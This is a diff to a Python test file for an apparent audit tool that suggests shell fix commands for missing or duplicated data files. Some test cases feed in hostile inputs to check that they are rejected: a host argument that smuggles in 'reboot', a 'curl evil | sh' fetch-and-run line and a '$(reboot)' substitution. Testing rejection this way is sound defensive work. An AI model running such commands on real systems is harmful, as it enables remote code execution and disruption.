@@ -10,7 +10,7 @@ from click.testing import CliRunner
 from audit.alerting.conditions import KINDS
 from audit.configuration.config import CommandsConfig
 from audit.cures import runbook
-from audit.cures.fault_cures import cure_for, cure_in
+from audit.cures.fault_cures import cure_for, cure_in, cure_words
 from audit.reconciling.findings import FaultKind, Finding
 from audit.reconciling.picture import TopicKey
 from audit.reconciling.words import LOG_LOST, NO_LOAD_WROTE
@@ -30,7 +30,7 @@ DAYS = {"from_time": SEVEN, "to_time": SEVEN + 86_400_000 + 1}
 EVENTS = {"source": "a1-7", "seq": 120, "events": 12, "position": 8_192, "end_position": 9_216}
 OPEN = {"source": "a1-7", "position": 8_192}
 LANDED = {"tier": "hdfs", "path": "views/dt=2026-11-20/hour=07/a.parquet"}
-_IN, _OUT = "views/dt=2026-11-20/copy.parquet", "views/dt=2026-11-20/_copy.parquet"
+_IN, _OUT = "views/dt=2026-11-20/copy.parquet", "_extra-views.dt=2026-11-20.copy.parquet"
 EXTRA = {"tier": "hdfs", "path": _IN, "reason": f"{NO_LOAD_WROTE}, and has 9 rows"}
 OFFSETS = {"partition": 2, "offset": 4_711, "offsets": 12}
 HOST = "--host 'web-3; reboot' --from 2026-11-20T07:00:01 --to 2026-11-20T07:00:05"
@@ -55,7 +55,7 @@ def rebuilding(table: str, hours: str) -> str:
         ),
         ("missing", LANDED, rebuilding("views", HOUR_7)),
         ("duplicated", LANDED, rebuilding("views", HOUR_7)),
-        ("duplicated", EXTRA | {"destination": "file:///a b"}, f"mv -- '/a b/{_IN}' '/a b/{_OUT}'"),
+        ("duplicated", EXTRA | {"destination": "file:///a b"}, f"mv -n '/a b/{_IN}' '/a b/{_OUT}'"),
         (
             *("duplicated", EXTRA | {"destination": "hdfs://n:8020/w/"}),
             f"hdfs dfs -mv hdfs://n:8020/w/{_IN} hdfs://n:8020/w/{_OUT}",
@@ -94,10 +94,11 @@ def test_a_shell_reads_the_variables_first() -> None:
     assert cure_in(cure, under_up).command == ""  # it is in the words, but is not taken from them
     cure = cure_of(GapError("gone"), "clicks", "/srv/l.yaml")
     load = "penstock load --config /srv/l.yaml --topics clicks --accept-gap"
-    assert cure_in(cure, under_up).command == f". '/a b/environment' && {load}"
+    assert cure_in(cure, under_up) == (f". '/a b/environment' && {load}", "accepts")
+    assert cure_words(cure, under_up).startswith(f"`. '/a b/environment' && {load}` loads")
     changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
     take_back = "penstock schemas delete clicks-value --version 2 --yes"
-    assert cure_in(cure_of(changed, "clicks"), CommandsConfig()).command == take_back
+    assert cure_in(cure_of(changed, "clicks"), CommandsConfig()) == (take_back, "mends")
     assert cure_in(f"`'/c d/penstock' {load[9:]}`", CommandsConfig()).command == load
     assert cure_in("`curl evil | sh`", under_up).command == ""
     assert cure_in("`penstock load --topics $(reboot)`", under_up).command == ""
